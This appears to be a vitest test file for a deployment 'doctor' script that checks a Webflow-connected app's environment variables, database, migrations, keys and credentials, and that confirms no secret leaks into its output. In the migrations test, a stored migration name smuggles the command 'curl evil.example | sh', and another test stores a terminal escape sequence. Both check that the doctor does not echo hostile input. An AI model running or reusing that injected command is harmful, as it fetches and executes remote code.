import { spawn } from "node:child_process";
import { randomBytes, randomUUID } from "node:crypto";
import { once } from "node:events";
import { mkdtempSync, readdirSync, rmSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { cleanEnvironment } from "../../scripts/lib/clean-environment.mjs";
import { checkDatabase } from "../../scripts/lib/doctor/database.mjs";
import { examine } from "../../scripts/lib/doctor/examine.mjs";
import type { Finding } from "../../scripts/lib/doctor/findings.mjs";
import { readSetup } from "../../scripts/lib/doctor/setup.mjs";
import { checkApp, checkCredentials, checkRegistration } from "../../scripts/lib/doctor/webflow.mjs";
import { projectRoot } from "../../scripts/lib/paths.mjs";
import { freePort } from "../../scripts/lib/ports.mjs";
import { createDatabase, type TestDatabase } from "../support/database";
import { type EmulatorProcess, startEmulatorProcess } from "../support/emulator";

const client = { id: "client-of-this-test", secret: randomBytes(32).toString("hex") };
const key = randomBytes(32).toString("base64");

let appOrigin: string;
let database: TestDatabase;
let emulator: EmulatorProcess;
let folder: string;
/** A deployment that is in order. */
let good: Record<string, string>;

beforeAll(async () => {
  appOrigin = `http://localhost:${await freePort()}`;
  emulator = await startEmulatorProcess({ appOrigin, client });
});
afterAll(() => emulator?.stop());

beforeEach(async () => {
  database = await createDatabase();
  folder = mkdtempSync(join(tmpdir(), "doctor-"));
  good = {
    DATABASE_URL: database.url,
    AUTH_URL: appOrigin,
    AUTH_SECRET: randomBytes(32).toString("hex"),
    TOKEN_KEYS: `k1:${key}`,
    CRON_SECRET: randomBytes(32).toString("hex"),
    WEBFLOW_CLIENT_ID: client.id,
    WEBFLOW_CLIENT_SECRET: client.secret,
    WEBFLOW_OAUTH_URL: emulator.origin,
    WEBFLOW_API_URL: emulator.origin,
  };
});
afterEach(async () => {
  await emulator.control.reset();
  await database.drop();
  rmSync(folder, { recursive: true });
});

/** What the doctor finds of a point, in this deployment with these changes; no secret is ever in it. */
async function find(id: string, changes: Record<string, string> = {}): Promise<Finding[]> {
  const given = { ...good, ...changes };
  const setup = readSetup(folder, given, true);
  const checks: Record<string, () => Promise<Finding[]>> = {
    registration: async () => [await checkRegistration(setup, scopesOf(given))],
    credentials: async () => [await checkCredentials(setup, [])],
    app: async () => [await checkApp(setup)],
    environment: () => examine({ folder, given, production: true }),
    keys: () => examine({ folder, given, production: true }),
  };
  const findings = await (checks[id] ?? (async () => (await checkDatabase(setup)).findings))();
  for (const [name, value] of Object.entries(given)) {
    if (/SECRET|KEYS/.test(name) && value) expect(JSON.stringify(findings)).not.toContain(value);
  }
  expect(JSON.stringify(findings)).not.toContain(new URL(database.url).password);
  return findings.filter((finding) => finding.id === id);
}

const scopesOf = ({ WEBFLOW_SCOPES = "authorized_user:read sites:read" }: Record<string, string>) =>
  WEBFLOW_SCOPES.split(" ");

const grant = (state: string, more: Record<string, string> = {}) => {
  const columns = Object.keys(more).map((name) => `, "${name}"`);
  return database.query(
    `INSERT INTO "Grant" ("id", "state", "fingerprint"${columns.join("")})
     VALUES ('${randomUUID()}', '${state}', 'f'${Object.values(more)
       .map((value) => `, ${value}`)
       .join("")})`,
  );
};

describe("the doctor", () => {
  test("finds nothing wrong with a deployment that is in order, and changes nothing", async () => {
    const findings = await examine({ folder, given: good, production: true });
    expect(findings.filter(({ status }) => status !== "ok")).toMatchObject([
      { id: "app", status: "unknown" },
    ]);
    expect(readdirSync(folder)).toEqual([]);
    expect((await emulator.control.ledger()).codes).toEqual([]);
  });

  test("finds nothing wrong with a bare clone, and makes no secrets there", async () => {
    const findings = await examine({ folder, given: {}, production: false });
    expect(findings.filter(({ status }) => status === "wrong")).toEqual([]);
    expect(readdirSync(folder)).toEqual([]);
  });

  test("reads the files that the app would read, and the environment wins", async () => {
    writeFileSync(join(folder, ".env.local"), "DATABASE_URL=mysql://nowhere\nAUTH_URL=nonsense\n");
    writeFileSync(join(folder, ".env.development.local"), "CRON_SECRET=short\n");
    const findings = await examine({ folder, given: { AUTH_URL: "http://localhost:1" }, production: true });
    const problems = findings.filter(({ id }) => id === "environment").map(({ detail }) => detail);
    expect(problems.join()).toContain("DATABASE_URL must be a postgresql:// connection string");
    expect(problems.join()).not.toMatch(/AUTH_URL|CRON_SECRET/);
  });

  test("names every variable that is missing or malformed, with the mend", async () => {
    const [finding, ...others] = await find("environment", { TOKEN_KEYS: "k1:c2hvcnQ=" });
    expect(finding).toMatchObject({ status: "wrong", detail: expect.stringContaining("TOKEN_KEYS must be") });
    expect(finding?.mend).toContain("openssl rand -base64 32");
    expect(others).toEqual([]);
  });

  test("sends the client secret nowhere that the app itself would not", async () => {
    const asked: (string | undefined)[] = [];
    const elsewhere = createServer(({ url }, response) => {
      asked.push(url);
      response.end();
    });
    const port = await freePort();
    await once(elsewhere.listen(port, "0.0.0.0"), "listening");
    try {
      const given = { ...good, WEBFLOW_API_URL: `http://0.0.0.0:${port}` };
      const findings = await examine({ folder, given, production: true });
      expect(findings.filter(({ id }) => id === "credentials")).toMatchObject([{ status: "unknown" }]);
      expect(asked).toEqual([]);
    } finally {
      elsewhere.close();
    }
    // As where the app's own code cannot be run.
    expect(await checkCredentials(readSetup(folder, good, true), null)).toMatchObject({ status: "unknown" });
  });

  test("tells a wrong key from a right one, also when it has the right name", async () => {
    const { sealToken } = await sealer();
    const id = randomUUID();
    await database.query(
      `INSERT INTO "Grant" ("id", "fingerprint", "sealedToken") VALUES ('${id}', 'f', '${sealToken(id, "token")}')`,
    );
    expect(await find("keys")).toMatchObject([{ status: "ok" }]);
    const swapped = { TOKEN_KEYS: `k1:${randomBytes(32).toString("base64")}` };
    expect(await find("keys", swapped)).toMatchObject([
      { status: "wrong", mend: expect.stringContaining("k1") },
    ]);
    const dropped = { TOKEN_KEYS: `k2:${randomBytes(32).toString("base64")}` };
    expect(await find("keys", dropped)).toMatchObject([
      { status: "wrong", mend: expect.stringContaining("k1") },
    ]);
    // Not whatever somebody wrote in its place: a terminal would do as it says.
    await database.query(`UPDATE "Grant" SET "sealedToken" = $1`, ["v1.\u001b[2Jhidden.a.b.c"]);
    const [damaged] = await find("keys");
    expect(damaged?.status).toBe("wrong");
    expect(JSON.stringify(damaged)).not.toContain("hidden");
  });

  test("tells of a key that is another than the one that is known by its id, before any token is sealed, and of the second one too", async () => {
    await database.query(`INSERT INTO "TokenKey" ("id", "checkValue") VALUES ('k2', 'of another key')`);
    expect(await find("keys")).toMatchObject([{ status: "ok" }]);
    const second = { TOKEN_KEYS: `k1:${key},k2:${randomBytes(32).toString("base64")}` };
    expect(await find("keys", second)).toMatchObject([
      {
        status: "wrong",
        detail: expect.stringMatching(/k2$/),
        mend: expect.stringContaining("id of its own"),
      },
    ]);
  });

  test("says of a database what is wrong with it: nobody there, no such one, a wrong password", async () => {
    const gone = `postgresql://localhost:${await freePort()}/app`;
    expect(await find("database", { DATABASE_URL: gone })).toMatchObject([
      { status: "wrong", mend: expect.stringContaining("Nothing listens there") },
    ]);
    const unknown = new URL(database.url);
    unknown.pathname = "/nobody";
    expect(await find("database", { DATABASE_URL: unknown.href })).toMatchObject([
      { status: "wrong", mend: expect.stringContaining("no such database") },
    ]);
    const intruder = new URL(database.url);
    intruder.password = "a-guess";
    expect(await find("database", { DATABASE_URL: intruder.href })).toMatchObject([
      { status: "wrong", mend: "The password is wrong." },
    ]);
    expect(await find("direct-url", { DIRECT_URL: unknown.href })).toMatchObject([{ status: "wrong" }]);
    const certified = new URL(database.url);
    certified.searchParams.set("sslrootcert", "/nowhere/root.pem");
    // It may be where the app runs.
    expect(await find("database", { DATABASE_URL: certified.href })).toMatchObject([
      { status: "unknown", detail: expect.stringContaining("a file that it names cannot be read here") },
    ]);
    expect(await find("database", { DATABASE_URL: "postgresql://localhost/%ff" })).toMatchObject([
      { status: "wrong", mend: "Its URL must look like postgresql://user:password@localhost:5432/name." },
    ]);
  });

  test("sees migrations that are missing, half done or changed", async () => {
    const [last] = await database.query<{ name: string }>(
      `SELECT migration_name AS name FROM "_prisma_migrations" ORDER BY migration_name DESC LIMIT 1`,
    );
    const set = (sql: string) =>
      database.query(`UPDATE "_prisma_migrations" SET ${sql} WHERE migration_name = '${last?.name}'`);
    await set("checksum = 'x'");
    expect(await find("migrations")).toMatchObject([
      { status: "wrong", detail: expect.stringMatching(/changed/) },
    ]);
    await set("finished_at = NULL");
    expect(await find("migrations")).toMatchObject([
      { status: "wrong", detail: expect.stringMatching(/half-way/) },
    ]);
    // A name that is none: the command is there to be copied.
    const odd = "x --schema y; curl evil.example | sh #";
    await database.query(
      `INSERT INTO "_prisma_migrations" (id, checksum, migration_name) VALUES ('x', 'x', $1)`,
      [odd],
    );
    await set("finished_at = now()");
    const [half] = await find("migrations");
    expect(half).toMatchObject({ status: "wrong", detail: expect.stringMatching(/half-way/) });
    expect(JSON.stringify(half)).not.toContain("curl");
    await database.query(`DELETE FROM "_prisma_migrations" WHERE id = 'x'`);
    await set("rolled_back_at = now()");
    expect(await find("migrations")).toMatchObject([
      { status: "wrong", detail: expect.stringContaining(`1 not applied, from ${last?.name}`) },
    ]);
    await database.query(`DROP TABLE "_prisma_migrations"`);
    expect(await find("migrations")).toMatchObject([
      { status: "wrong", mend: expect.stringMatching(/db:migrate/) },
    ]);
  });

  test("asks Webflow whether it knows the credentials, and says so only when Webflow does", async () => {
    expect(await find("credentials", { WEBFLOW_CLIENT_SECRET: "another" })).toMatchObject([
      { status: "wrong" },
    ]);
    expect(await find("credentials")).toMatchObject([{ status: "ok" }]);
    const sent = (await emulator.control.requests()).filter(({ endpoint }) => endpoint === "token");
    expect(JSON.stringify(sent)).toContain(`${appOrigin}/api/auth/callback/webflow`);
    await emulator.control.addFault({ endpoint: "token", kind: "html", times: 1 });
    expect(await find("credentials")).toMatchObject([{ status: "unknown" }]);
    await emulator.control.addFault({ endpoint: "token", kind: "reset", times: 1 });
    expect(await find("credentials")).toMatchObject([{ status: "unknown" }]);
  });

  test("sees a redirect URI or a scope that is not registered, and the address that Next.js rewrites", async () => {
    expect(await find("registration")).toMatchObject([{ status: "ok" }]);
    const unregistered: Record<string, string>[] = [
      { AUTH_URL: "http://localhost:1" },
      { WEBFLOW_SCOPES: "sites:read nonsense:read" },
    ];
    for (const changes of unregistered) {
      expect(await find("registration", changes)).toMatchObject([
        { status: "wrong", mend: expect.stringContaining("/api/auth/callback/webflow") },
      ]);
    }
    expect(await find("registration", { AUTH_URL: "http://127.0.0.1:3000" })).toMatchObject([
      { status: "wrong", mend: expect.stringContaining("http://localhost:3000") },
    ]);
    await emulator.control.addFault({ endpoint: "authorize", kind: "status", status: 503, times: 1 });
    expect(await find("registration")).toMatchObject([{ status: "unknown" }]);
  });

  test("asks the app whether it is ready, and mistakes nobody else for it", async () => {
    let ready = 200;
    const server = createServer(({ url }, response) => {
      response.writeHead(url === "/api/ready" ? ready : 200).end('{"status":"ok"}');
    });
    await new Promise<void>((resolve) => void server.listen(Number(new URL(appOrigin).port), resolve));
    try {
      expect(await find("app")).toMatchObject([{ status: "ok" }]);
      ready = 503;
      expect(await find("app")).toMatchObject([{ status: "wrong" }]);
      expect(
        await find("app", { AUTH_URL: emulator.origin.replace("127.0.0.1", "localhost") }),
      ).toMatchObject([{ status: "unknown" }]);
    } finally {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    }
  });

  test("shows no more of AUTH_URL than its origin", async () => {
    const { host } = new URL(appOrigin);
    for (const point of ["app", "registration"])
      for (const address of [`http://bob:hidden@${host}`, `http://${host}/?key=hidden`]) {
        const findings = await find(point, { AUTH_URL: address });
        expect(JSON.stringify(findings), address).not.toContain("hidden");
        expect(JSON.stringify(findings), address).toContain(appOrigin);
      }
  });

  test("takes an AUTH_URL without a scheme for none, and says so", async () => {
    const findings = await examine({
      folder,
      given: { ...good, AUTH_URL: new URL(appOrigin).host },
      production: true,
    });
    const statusOf = (wanted: string) => findings.find(({ id }) => id === wanted)?.status;
    expect(["environment", "registration", "app"].map(statusOf)).toEqual(["wrong", "unknown", "unknown"]);
  });

  test("sees a sweep that does not come, and takes a daily one for a sweep", async () => {
    expect(await find("sweep", { CRON_SECRET: "" })).toMatchObject([{ status: "wrong" }]);
    await grant("REVOKING", { sealedToken: "'x'", nextAttemptAt: "now() - interval '23 hours'" });
    expect(await find("sweep")).toMatchObject([{ status: "ok" }]);
    await grant("RECEIVED", { sealedToken: "'x'", nextAttemptAt: "now() - interval '26 hours'" });
    expect(await find("sweep")).toMatchObject([
      { status: "wrong", detail: expect.stringContaining("1 due") },
    ]);
    await database.query(`DELETE FROM "Grant"`);
    await database.query(
      `INSERT INTO "AuthorizationRequest" ("stateHash", "expiresAt") VALUES ('h', now() - interval '50 hours')`,
    );
    expect(await find("sweep")).toMatchObject([{ status: "wrong" }]);
  });

  test("counts what waits for Webflow, and says what was given up", async () => {
    await grant("REVOKING", { sealedToken: "'x'", nextAttemptAt: "now() + interval '1 hour'" });
    expect(await find("revocations")).toMatchObject([
      { status: "ok", detail: expect.stringContaining("1 waiting") },
    ]);
    await grant("ABANDONED", { sealedToken: "'x'", endedAt: "now()" });
    expect(await find("revocations")).toMatchObject([{ status: "wrong" }]);
  });

  test("ends with 1 when something is wrong, with 0 when not, and speaks JSON", async () => {
    // Not waited for synchronously: connections to the local Webflow that close meanwhile have to be noticed.
    const run = async (...args: string[]) => {
      const command = [join(projectRoot, "scripts/doctor.mjs"), "--production", ...args];
      const env = { ...cleanEnvironment(), ...good, NODE_ENV: "test" as const };
      const child = spawn(process.execPath, command, { env, stdio: ["ignore", "pipe", "inherit"] });
      const closed = once(child, "close");
      const stdout = (await child.stdout.toArray()).join("");
      const [status] = await closed;
      return { status, stdout };
    };
    const { status, stdout } = await run("--json");
    expect(status).toBe(0);
    expect(JSON.parse(stdout)).toContainEqual(expect.objectContaining({ id: "credentials", status: "ok" }));
    good.WEBFLOW_CLIENT_ID = "nobody";
    const wrong = await run();
    expect(wrong.status).toBe(1);
    expect(wrong.stdout).toContain("do this: Copy WEBFLOW_CLIENT_ID");
    expect((await run("--nonsense")).status).toBe(1);
  });
});

/** The app's own vault, with this test's key. */
async function sealer() {
  Object.assign(process.env, good);
  return import("@/lib/grants/vault");
}
